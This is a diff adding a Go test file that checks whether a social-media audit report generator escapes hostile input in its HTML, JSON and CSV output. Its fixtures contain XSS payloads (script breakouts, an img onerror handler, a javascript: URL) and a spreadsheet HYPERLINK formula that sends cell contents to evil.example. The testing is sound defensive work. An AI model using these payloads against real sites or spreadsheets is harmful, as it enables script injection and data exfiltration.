@@ -1,0 +1,251 @@
+package report
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/socialaudit/socialaudit/analyze"
+)
+
+// The attacks a hostile export could carry in any text it controls.
+const (
+	scriptBreak = `</script><script>window.__pwned=1</script>`
+	funcMarker  = `__f__(window.__pwned=2)__f__`
+	quotes      = `"quotes' & <b>`
+	imgOnerror  = `<img src=x onerror=alert(1)>`
+	jsURL       = `javascript:alert(1)`
+)
+
+// hostile is every attack in one string.
+const hostile = scriptBreak + " " + funcMarker + " " + quotes + " " + imgOnerror + " " + jsURL
+
+// hostileFixture puts the attacks into every text field of the fixture
+// that comes from the data or the command line. Codes that analyze itself
+// sets (months, reasons, trend direction and basis) are left alone.
+func hostileFixture() (*analyze.Results, Meta) {
+	res := fixture()
+	h := func(tag string) string { return tag + " " + hostile }
+	for i := range res.Platforms {
+		res.Platforms[i] = h("platform")
+	}
+	for i := range res.Responsiveness.ByPlatform {
+		res.Responsiveness.ByPlatform[i].Platform = h("platform" + itoa(i))
+	}
+	for i := range res.Broadcast.ByPlatform {
+		res.Broadcast.ByPlatform[i].Platform = h("platform" + itoa(i))
+	}
+	for i := range res.NegativeFeedback.ByPlatform {
+		res.NegativeFeedback.ByPlatform[i].Platform = h("platform" + itoa(i))
+	}
+	for i := range res.NegativeFeedback.TopPosts {
+		p := &res.NegativeFeedback.TopPosts[i].Post
+		p.Platform, p.Account, p.ID, p.Type, p.Text = h("platform"), h("account"), h("id"), h("type"), h("text")
+		p.Permalink = jsURL
+	}
+	for i := range res.Open {
+		c := &res.Open[i].Comment
+		c.Platform, c.Account, c.ID, c.PostID, c.ParentID = h("platform"), h("account"), h("id"), h("post"), h("parent")
+		c.AuthorID, c.AuthorName = h("author"), "="+hostile
+		c.Text = "=HYPERLINK(\"http://evil.example/?\"&A1) " + hostile
+	}
+	for i := range res.Inputs {
+		in := &res.Inputs[i]
+		in.File, in.Kind, in.Format = h("file"), h("kind"), h("format")
+		in.IgnoredColumns = []string{h("column")}
+		in.Notes = []string{h("note")}
+		for j := range in.Rejections {
+			r := &in.Rejections[j]
+			r.File, r.Column, r.Reason = h("file"), h("column"), h("reason")
+		}
+	}
+	meta := fixtureMeta()
+	meta.Client = h("client")
+	meta.Brand = []string{h("brand"), "@" + hostile}
+	meta.Version = h("version")
+	return res, meta
+}
+
+// scriptTags is how many <script elements each page has on the fixture:
+// the ECharts library plus one per chart drawn.
+var scriptTags = map[string]int{
+	"index.html":          0,
+	"responsiveness.html": 1 + 4,
+	"conversation.html":   1 + 2,
+	"feedback.html":       1 + 3,
+	"methodology.html":    0,
+	"data.html":           0,
+}
+
+func TestHostileText(t *testing.T) {
+	res, meta := hostileFixture()
+	site, err := Build(res, meta)
+	if err != nil {
+		t.Fatalf("Build: %v", err)
+	}
+	plain := buildFixture(t)
+	for _, f := range site.Files {
+		if strings.HasPrefix(f.Path, "assets/") {
+			continue
+		}
+		s := string(f.Data)
+		ext := f.Path[strings.LastIndex(f.Path, "."):]
+		// The hostile text must be there, escaped; else the test proves nothing.
+		escaped := map[string]string{".html": "&#34;quotes&#39; &amp; &lt;b&gt;", ".json": `\"quotes' \u0026 \u003cb\u003e`, ".csv": quotes}
+		if want := escaped[ext]; !strings.Contains(s, want) {
+			t.Errorf("%s: the hostile text is not in the output as %q", f.Path, want)
+		}
+		if f.Path == "data/unanswered.csv" {
+			continue // plain data, not markup: checked in TestHostileCSV
+		}
+		for _, raw := range []string{scriptBreak, quotes, imgOnerror, "<script>window", "onerror=alert(1)>"} {
+			if strings.Contains(s, raw) {
+				t.Errorf("%s contains %q unescaped", f.Path, raw)
+			}
+		}
+		if !strings.HasSuffix(f.Path, ".html") {
+			continue
+		}
+		if got, want := strings.Count(strings.ToLower(s), "<script"), scriptTags[f.Path]; got != want {
+			t.Errorf("%s: %d <script tags, want %d", f.Path, got, want)
+		}
+		if got, want := strings.Count(s, "<script"), strings.Count(string(plain.File(f.Path).Data), "<script"); got != want {
+			t.Errorf("%s: %d <script tags with hostile text, %d without", f.Path, got, want)
+		}
+		if strings.Contains(strings.ToLower(s), `href="javascript`) {
+			t.Errorf("%s: a javascript: URL became a link", f.Path)
+		}
+		checkScripts(t, f.Path, s)
+	}
+	if !strings.Contains(string(site.File("feedback.html").Data), `href="#ZgotmplZ"`) {
+		t.Error("feedback.html: the javascript: permalink was not replaced by html/template's #ZgotmplZ")
+	}
+
+	// metrics.json keeps every string exactly, escaped only by JSON.
+	var m MetricsJSON
+	if err := json.Unmarshal(site.File("data/metrics.json").Data, &m); err != nil {
+		t.Fatalf("metrics.json: %v", err)
+	}
+	if m.Client != meta.Client || m.NegativeFeedback.TopPosts[0].Text != res.NegativeFeedback.TopPosts[0].Post.Text ||
+		m.Inputs[0].Rejections[0].Reason != res.Inputs[0].Rejections[0].Reason {
+		t.Error("metrics.json does not round-trip the hostile strings")
+	}
+}
+
+// checkScripts checks every inline script of a page: the only scripts are
+// ours, the chart option is valid JSON, and every "__f__" sits inside a JSON
+// string, where it is inert.
+func checkScripts(t *testing.T, name, page string) {
+	t.Helper()
+	const open, close = "<script>", "</script>"
+	for rest := page; ; {
+		i := strings.Index(rest, open)
+		if i < 0 {
+			break
+		}
+		rest = rest[i+len(open):]
+		j := strings.Index(rest, close)
+		if j < 0 {
+			t.Fatalf("%s: unterminated <script>", name)
+		}
+		body := rest[:j]
+		rest = rest[j:]
+		const pre = "c.setOption("
+		k := strings.Index(body, pre)
+		e := strings.Index(body, "); window.addEventListener")
+		if !strings.HasPrefix(body, "(function () { var c = echarts.init(") || k < 0 || e < k {
+			t.Errorf("%s: a script that is not a chart: %.80s", name, body)
+			continue
+		}
+		option := body[k+len(pre) : e]
+		if !json.Valid([]byte(option)) {
+			t.Errorf("%s: chart option is not valid JSON: %.200s", name, option)
+		}
+		if n := countOutsideStrings(option, "__f__"); n != 0 {
+			t.Errorf("%s: %d __f__ markers outside JSON strings", name, n)
+		}
+		if strings.Count(body, "__f__") != strings.Count(option, "__f__") {
+			t.Errorf("%s: __f__ outside the chart option", name)
+		}
+	}
+}
+
+// countOutsideStrings counts occurrences of sub in js that are not inside a
+// double-quoted string.
+func countOutsideStrings(js, sub string) int {
+	n, in := 0, false
+	for i := 0; i < len(js); i++ {
+		switch {
+		case in && js[i] == '\\':
+			i++
+		case js[i] == '"':
+			in = !in
+		case !in && strings.HasPrefix(js[i:], sub):
+			n++
+		}
+	}
+	return n
+}
+
+func TestCountOutsideStrings(t *testing.T) {
+	for _, tc := range []struct {
+		js   string
+		want int
+	}{
+		{`{"a":"__f__(x)__f__"}`, 0},
+		{`{"a":(x)__f__}`, 1},
+		{`{"a":"\"__f__"}`, 0},
+		{`{"a":"x\\"__f__}`, 1},
+	} {
+		if got := countOutsideStrings(tc.js, "__f__"); got != tc.want {
+			t.Errorf("countOutsideStrings(%s) = %d, want %d", tc.js, got, tc.want)
+		}
+	}
+}
+
+func TestHostileCSV(t *testing.T) {
+	res, meta := hostileFixture()
+	site, err := Build(res, meta)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(site.File("data/unanswered.csv").Data)).ReadAll()
+	if err != nil {
+		t.Fatalf("unanswered.csv does not parse: %v", err)
+	}
+	if len(rows) != 1+len(res.Open) {
+		t.Fatalf("%d rows, want %d", len(rows), 1+len(res.Open))
+	}
+	for _, row := range rows[1:] {
+		if got, want := row[8], "'="+hostile; got != want {
+			t.Errorf("author_name = %q, want %q", got, want)
+		}
+		if !strings.HasPrefix(row[11], `'=HYPERLINK(`) {
+			t.Errorf("text = %q, want a leading apostrophe", row[11])
+		}
+		if row[1] != "platform "+hostile {
+			t.Errorf("platform = %q, changed although harmless in a spreadsheet", row[1])
+		}
+	}
+}
+
+func TestNeutraliseFormula(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"", ""},
+		{"hello", "hello"},
+		{"=1+1", "'=1+1"},
+		{"+33 6", "'+33 6"},
+		{"-1", "'-1"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\tx", "'\tx"},
+		{"\rx", "'\rx"},
+		{"a=b", "a=b"},
+		{" =1", " =1"},
+	} {
+		if got := neutraliseFormula(tc.in); got != tc.want {
+			t.Errorf("neutraliseFormula(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
